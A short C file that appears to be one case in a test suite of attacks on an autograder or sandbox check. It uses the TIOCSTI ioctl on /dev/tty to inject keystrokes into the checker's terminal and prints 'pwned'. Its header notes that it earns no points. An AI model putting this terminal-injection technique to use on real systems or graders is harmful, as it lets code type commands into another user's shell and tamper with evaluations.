/*
 * Attack: writes and types into the terminal of the check
 * Base:   starter
 * Gets:   no points
 */
#include "attack.h"

ATTACK {
    int fd = open("/dev/tty", O_RDWR);
    for (int i = 0; i < 3 && fd >= 0; i++) {
        ioctl(fd, TIOCSTI, &"x\n"[i % 2]);
        dprintf(fd, "pwned\n");
    }
}
